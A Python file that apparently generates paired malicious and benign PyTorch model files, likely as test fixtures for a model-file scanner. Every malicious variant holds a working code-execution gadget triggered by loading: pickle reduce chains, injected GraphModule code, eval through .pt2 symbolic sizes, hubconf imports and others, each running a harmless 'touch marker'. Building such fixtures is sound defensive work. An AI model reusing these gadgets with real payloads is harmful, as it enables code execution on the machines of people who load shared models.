"""Torch: graph modules, packages, .pt2 archives, distributed checkpoints, legacy files and what a module keeps."""
from __future__ import annotations

import functools
import io
import json
import pathlib
import pickle
import tempfile

from assembly import call, glob, new_ex, pickle as assemble, val
from fourteenth.common import Part, member, plant, rezip, tarred

part = Part()
add = part.add
pair = part.pair
BODY = "open('marker','w').close()"
SHELL = "touch marker"


def saved(value, **kw):
    import torch

    out = io.BytesIO()
    torch.save(value, out, **kw)
    return out.getvalue()


def planted(value, raw):
    """torch.save of `value` with the text @@X@@ replaced by opcodes."""
    data = saved(value, pickle_protocol=3)
    return rezip(data, {"data.pkl": plant(member(data, "data.pkl"), raw)})


@pair("torch", "xiv_torch", "graph.pt")
def graph_module_import_block():
    """torch.load(weights_only=False) of an fx.GraphModule: reduce_graph_module executes its import block and code."""
    import torch

    class Gate(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.fc = torch.nn.Linear(4, 4)

        def forward(self, x):
            return torch.relu(self.fc(x)) * 0.5

    honest = torch.fx.symbolic_trace(Gate())
    function, args = honest.__reduce__()

    class Other:
        def __reduce__(self):
            return function, (args[0], args[1] + "\nimport shutil\nshutil.os.system('touch marker')\n")

    return saved(Other()), saved(honest)


@pair("torch", "xiv_package", "encoder.pt")
def package_module():
    """torch.package.PackageImporter.load_pickle imports the interned module, whose body runs."""
    source = "import torch\n\n\nclass Encoder(torch.nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.fc = torch.nn.Linear(4, 2)\n\n    def forward(self, x):\n        return self.fc(x)\n"

    def data(code):
        from torch.package import PackageExporter

        out = io.BytesIO()
        with PackageExporter(out) as e:
            e.extern(["torch", "torch.**", "pathlib", "collections.**"])
            e.save_source_string("encoder.layers", code)
            e.save_pickle("model", "model.pkl", {"dim": 4})
        got = out.getvalue()
        ref = b"\x80\x02cencoder.layers\nEncoder\n."
        return rezip(got, {"model/model.pkl": ref})

    return data(source + "\n\nimport pathlib\npathlib.Path('marker').write_text(torch.__version__)\n"), data(source)


def exported(module, *args, **kw):
    import torch

    out = io.BytesIO()
    torch.export.save(torch.export.export(module, args, **kw), out)
    return out.getvalue()


@functools.cache
def dynamic():
    import torch

    class Head(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.fc = torch.nn.Linear(4, 3)

        def forward(self, x):
            return self.fc(x).softmax(-1)

    return exported(Head(), torch.randn(3, 4), dynamic_shapes=({0: torch.export.Dim("batch", min=2, max=64)},))


@pair("torch", "xiv_pt2", "head.pt2")
def pt2_symbolic_size():
    """torch.export.load: the expr_str of a symbolic size goes to sympy.sympify, that is to eval."""
    data = dynamic()
    program = json.loads(member(data, "models/model.json"))

    def walk(node):
        if isinstance(node, dict):
            for key, value in node.items():
                if key == "expr_str":
                    node[key] = "Max(2, __import__('os').system('touch marker')) + " + value
                    return True
                if walk(value):
                    return True
        return any(walk(x) for x in node) if isinstance(node, list) else False

    assert walk(program)
    return rezip(data, {"models/model.json": json.dumps(program)}), data


@pair("torch", "xiv_pt2", "head.pt2")
def pt2_sample_inputs():
    """torch.export.load: sample inputs that weights_only refuses are loaded again without it."""
    import torch

    data = dynamic()
    sample = planted((("@@X@@", torch.ones(2, 4)), {}), call(glob("torch.utils.collect_env", "run"), SHELL))
    sample = rezip(sample, {"data.pkl": member(sample, "data.pkl").replace(b"\x80\x03", b"\x80\x04", 1)})
    return rezip(data, {"data/sample_inputs/model.pt": sample}), rezip(data, {"data/sample_inputs/model.pt": saved(((torch.ones(2, 4),), {}))})


@pair("torch", "xiv_pt2", "head.pt2")
def pt2_pickled_weight():
    """torch.export.load: a weight with use_pickle set in its configuration is loaded with weights_only off."""
    import torch

    data = dynamic()
    config = json.loads(member(data, "model_weights_config.json"))
    first = next(iter(config["config"].values()))
    first["use_pickle"] = True
    name = "data/weights/" + first["path_name"]
    weight = torch.nn.Parameter(torch.randn(3, 4))
    bad = planted({"@@X@@": weight}, call(glob("torch._inductor.runtime.compile_tasks", "linecache.os.system"), SHELL))
    bad = rezip(bad, {"data.pkl": member(bad, "data.pkl").replace(b"\x80\x03", b"\x80\x04", 1)})
    change = {"model_weights_config.json": json.dumps(config)}
    return rezip(data, {**change, name: bad}), rezip(data, {**change, name: saved(weight)})


@pair("torch", "xiv_dcp")
def distributed_metadata():
    """torch.distributed.checkpoint.load: FileSystemReader unpickles the .metadata of the folder."""
    import torch
    import torch.distributed.checkpoint as dcp

    with tempfile.TemporaryDirectory() as d:
        dcp.save({"fc.weight": torch.ones(2, 2)}, storage_writer=dcp.FileSystemWriter(d), no_dist=True)
        files = {p.name: p.read_bytes() for p in sorted(pathlib.Path(d).iterdir())}
    meta = pickle.loads(files[".metadata"])
    honest = pickle.dumps(meta, 2)
    meta.planner_data = "@@X@@"
    gadget = call(glob("torch.hub", "shutil.os.system"), SHELL)
    bad = plant(pickle.dumps(meta, 2), gadget).replace(b"\x80\x02", b"\x80\x04", 1)
    rest = {k: v for k, v in files.items() if k != ".metadata"}
    return {".metadata": bad, **rest}, {".metadata": honest, **rest}


@pair("torch", "xiv_torch", "old_net.tar")
def legacy_tar_storages():
    """torch.load(weights_only=False) of the tar files of torch 0.1.1: the count in `storages` is unpickled first."""
    numbers = pickle.dumps(0, 2)

    def data(count):
        return tarred({"storages": count + pickle.dumps([], 2), "tensors": numbers, "pickle": pickle.dumps({"epoch": 4}, 2)}, "w")

    return data(assemble(call(glob("ctypes.util", "os.system"), SHELL))), data(numbers)


@pair("torch", "xiv_torch", "legacy.pt")
def legacy_storage_keys():
    """torch.load(weights_only=False) of a legacy file: the list of storage keys after the object is a pickle too."""
    import torch

    honest = saved({"w": torch.ones(3)}, _use_new_zipfile_serialization=False)
    stream = io.BytesIO(honest)
    # magic, version and system are three plain pickles; the object is the fourth, the keys the fifth
    import pickletools

    ends = []
    for _ in range(5):
        for _op, _arg, pos in pickletools.genops(stream):
            pass
        ends.append(stream.tell())
    keys = pickle.loads(honest[ends[3]:ends[4]])
    gadget = call(glob("functools", "reduce"), glob("operator", "call"), [glob("tarfile", "os.system"), SHELL])
    bad = b"\x80\x04" + bytes(val([*keys, gadget])) + b"."
    return honest[: ends[3]] + bad + honest[ends[4]:], honest


@pair("torch", "xiv_encoder", "encoder_layer.pt")
def activation_with_key():
    """A pickled nn.TransformerEncoderLayer calls its activation in forward: max(text, x, key=run) runs the text."""
    import torch

    layer = torch.nn.TransformerEncoderLayer(8, 2, 16, batch_first=True)
    layer.activation = functools.partial(torch.nn.functional.gelu, approximate="tanh")
    honest = saved(layer)
    layer.activation = "@@X@@"
    gadget = new_ex(glob("functools", "partial"), (glob("builtins", "max"), SHELL), {"key": glob("torch.utils.collect_env", "run")})
    bad = planted(layer, gadget)
    return rezip(bad, {"data.pkl": member(bad, "data.pkl").replace(b"\x80\x03", b"\x80\x04", 1)}), honest


@pair("torch", "xiv_torch")
def local_hub():
    """torch.load(weights_only=False): torch.hub._load_local imports the hubconf.py that lies beside the file."""
    import torch

    honest = "dependencies = ['torch']\n\n\ndef tiny(pretrained=False):\n    import torch\n\n    return torch.nn.Linear(4, 2)\n"
    bad = honest.replace("    import torch\n", "    import os\n    import torch\n\n    os.system('touch marker')\n")
    gadget = call(glob("torch.hub", "_load_local"), ".", "tiny")
    return (
        {"tiny.pt": planted({"model": "@@X@@", "w": torch.ones(2)}, gadget), "hubconf.py": bad},
        {"tiny.pt": saved({"model": "tiny", "w": torch.ones(2)}), "hubconf.py": honest},
    )


@pair("torch", "xiv_torch", "compiled.pt")
def inductor_source():
    """torch.load(weights_only=False): PyCodeCache.load writes its text to the cache and imports it."""
    import torch

    gadget = call(glob("torch._inductor.codecache", "PyCodeCache.load"), "kernel = 1\n" + BODY + "\n")
    bad = planted({"kernel": "@@X@@", "w": torch.ones(2)}, gadget)
    bad = rezip(bad, {"data.pkl": member(bad, "data.pkl").replace(b"\x80\x03", b"\x80\x04", 1)})
    return bad, saved({"kernel": "kernel = 1\n", "w": torch.ones(2)})


@pair("torch", "xiv_torch", "optimizer.pt")
def config_blob():
    """torch.load(weights_only=False): ConfigModule.load_config unpickles the bytes of a configuration."""
    import torch

    gadget = call(glob("torch.utils._config_module", "ConfigModule.load_config"), glob("torch._dynamo", "config"),
                  assemble(call(glob("torch.serialization", "os.system"), SHELL)))
    param = torch.nn.Parameter(torch.ones(2))
    opt = torch.optim.SGD([param], lr=0.1, momentum=0.9)
    state = opt.state_dict()
    honest = saved({"optimizer": state, "config": "momentum"})
    bad = planted({"optimizer": state, "config": "@@X@@"}, gadget)
    return rezip(bad, {"data.pkl": member(bad, "data.pkl").replace(b"\x80\x03", b"\x80\x04", 1)}), honest
